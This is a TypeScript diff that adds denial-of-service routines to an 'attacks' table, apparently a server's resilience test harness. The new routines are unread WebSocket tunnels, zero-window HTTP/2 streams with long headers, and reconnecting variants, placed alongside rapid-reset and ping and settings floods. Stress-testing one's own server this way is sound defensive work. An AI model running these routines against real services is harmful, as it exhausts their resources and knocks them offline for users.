@@ -92,6 +92,38 @@ export const attacks = {
     )
     socket.write(Buffer.concat([opening, frame(types.headers, flags.endStream, 1, long)]))
   }),
+  /** WebSockets of which nobody reads an end. */
+  unreadTunnels: reading(socket => {
+    const lines = ['GET /open/x HTTP/1.1', 'Host: orders', 'Connection: Upgrade', 'Upgrade: websocket']
+    const key = ['Sec-WebSocket-Version: 13', 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==']
+    socket.write(`${[...lines, ...key].join('\r\n')}\r\n\r\n`)
+    socket.once('data', () => {
+      socket.pause()
+      const piece = Buffer.alloc(65_536, 0x61)
+      endless(socket, () => piece)
+    })
+  }),
+  /** Answers over HTTP/2 that come in one piece, behind long heads, and have no window. */
+  unreadWhole: reading(socket => {
+    const long = Array.from({ length: 14 }, (_, at) => [`x-${at}`, 'v'.repeat(900)] as const)
+    const ask = fields('GET', '/open/big', long)
+    const noWindow = Buffer.concat([Buffer.from([0, 4]), number(0)])
+    socket.write(Buffer.concat([preface, frame(types.settings, 0, 0, noWindow), frame(types.settings, flags.ack, 0)]))
+    let stream = -1
+    const next = (): void => {
+      for (let at = 0; at < 8 && stream < 255; at++) {
+        stream += 2
+        socket.write(frame(types.headers, flags.endHeaders | flags.endStream, stream, ask))
+      }
+      if (stream < 255 && !socket.destroyed) setTimeout(next, 30)
+    }
+    next()
+  }),
+  /** The same, of connections that leave and come again. */
+  leftWhole: reading((socket, token) => {
+    attacks.unreadWhole.act(socket, token)
+    setTimeout(() => socket.destroy(), 1_500)
+  }),
   rapidReset,
   pings: flood(frame(types.ping, 0, 0, Buffer.alloc(8))),
   settings: flood(frame(types.settings, 0, 0)),
